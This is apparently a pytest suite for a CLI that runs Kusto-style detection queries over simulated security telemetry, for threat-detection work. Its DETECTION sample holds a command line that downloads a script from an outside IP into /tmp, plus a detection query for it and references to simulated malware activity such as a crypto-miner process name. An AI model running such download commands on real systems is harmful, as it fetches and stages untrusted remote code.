"""The `ctirealm query` command: tables or JSON out, clear errors, never a traceback."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

import pytest

from pytest_ctirealm.cli import main

DETECTION = (
    "datatable(Cmd:string, Host:string)["
    "'curl http://203.0.113.7/x.sh -o /tmp/x.sh', 'web-01', 'apt-get update', 'web-02'] "
    "| where Cmd has 'curl' and Cmd contains '/tmp/'"
)


def test_query_prints_a_table(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["query", DETECTION]) == 0
    out = capsys.readouterr().out.splitlines()
    assert out[0].split() == ["Cmd", "Host"]
    assert "web-01" in out[2] and "curl" in out[2]
    assert out[-1] == "(1 row)"


def test_query_prints_json(capsys: pytest.CaptureFixture[str]) -> None:
    assert (
        main(
            [
                "query",
                "print t = datetime(2026-01-02 03:04:05), d = dynamic({'a': 1})",
                "--format",
                "json",
            ]
        )
        == 0
    )
    document = json.loads(capsys.readouterr().out)
    assert document["columns"] == [
        {"name": "t", "type": "datetime"},
        {"name": "d", "type": "dynamic"},
    ]
    assert document["rows"] == [["2026-01-02T03:04:05Z", {"a": 1}]]


def test_query_reads_jsonl_tables(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    rows = [
        {"FileName": "curl", "DeviceName": "web-01"},
        {"FileName": "bash", "DeviceName": "db-01"},
    ]
    (tmp_path / "DeviceProcessEvents.jsonl").write_text("\n".join(json.dumps(r) for r in rows))
    assert (
        main(
            [
                "query",
                "DeviceProcessEvents | where FileName == 'curl' | project DeviceName",
                "--data",
                str(tmp_path),
                "--format",
                "json",
            ]
        )
        == 0
    )
    assert json.loads(capsys.readouterr().out)["rows"] == [["web-01"]]


def test_row_cap_is_reported(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["query", "range x from 1 to 50 step 1", "--max-rows", "3"]) == 0
    assert capsys.readouterr().out.splitlines()[-1] == "(3 rows, truncated)"


def test_query_errors_are_one_line(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["query", "DeviceProcessEvent | take 1"]) == 1
    err = capsys.readouterr().err
    assert err.startswith("ctirealm: Unknown table 'DeviceProcessEvent'.")
    assert "Traceback" not in err


def test_bad_data_file_is_named(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "Processes.jsonl").write_text("{}\n")
    assert main(["query", "print 1", "--data", str(tmp_path)]) == 2
    assert "Processes.jsonl" in capsys.readouterr().err
    (tmp_path / "Processes.jsonl").unlink()
    (tmp_path / "AKSAudit.jsonl").write_text('{"Verb": "get"}\nnot json\n')
    assert main(["query", "print 1", "--data", str(tmp_path)]) == 2
    assert "AKSAudit.jsonl:2: not valid JSON" in capsys.readouterr().err


def test_console_script_is_installed() -> None:
    done = subprocess.run(
        [sys.executable, "-m", "pytest_ctirealm.cli", "query", "print answer = 6 * 7"],
        capture_output=True,
        text=True,
        check=True,
    )
    assert "42" in done.stdout


def test_generate_writes_tables_labels_and_manifest(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["generate", "--out", str(tmp_path), "--scale", "0.5", "--seed", "4"]) == 0
    assert "rows/s" in capsys.readouterr().out
    manifest = json.loads((tmp_path / "manifest.json").read_text())
    assert manifest["seed"] == 4 and manifest["scale"] == 0.5
    labels = json.loads((tmp_path / "labels.json").read_text())
    assert "kinsing_web_compromise.download" in labels
    lookalikes = json.loads((tmp_path / "lookalikes.json").read_text())
    assert "apt_hook_persistence.update_hooks" in lookalikes
    instances = json.loads((tmp_path / "instances.json").read_text())
    assert instances["apt_hook_persistence"]["directive"].endswith("Invoke")
    lines = (tmp_path / "DeviceProcessEvents.jsonl").read_text().splitlines()
    assert len(lines) == manifest["rows"]["DeviceProcessEvents"]
    # What was written reads back through `ctirealm query --data` unchanged.
    assert (
        main(["query", "DeviceProcessEvents | count", "--data", str(tmp_path), "--format", "json"])
        == 0
    )
    assert json.loads(capsys.readouterr().out)["rows"] == [[len(lines)]]


def test_generate_parquet_keeps_kusto_types(tmp_path: Path) -> None:
    import pyarrow.parquet as pq

    assert main(["generate", "--out", str(tmp_path), "--format", "parquet", "--scale", "0.5"]) == 0
    schema = pq.read_schema(tmp_path / "DeviceProcessEvents.parquet")
    assert str(schema.field("Timestamp").type) == "timestamp[us]"
    assert str(schema.field("ReportId").type) == "int64"


def test_query_over_the_simulated_telemetry(capsys: pytest.CaptureFixture[str]) -> None:
    assert (
        main(
            [
                "query",
                "--telemetry",
                "--format",
                "json",
                "DeviceProcessEvents | where ProcessCommandLine contains 'kdevtmpfsi' | count",
            ]
        )
        == 0
    )
    assert json.loads(capsys.readouterr().out)["rows"][0][0] >= 3
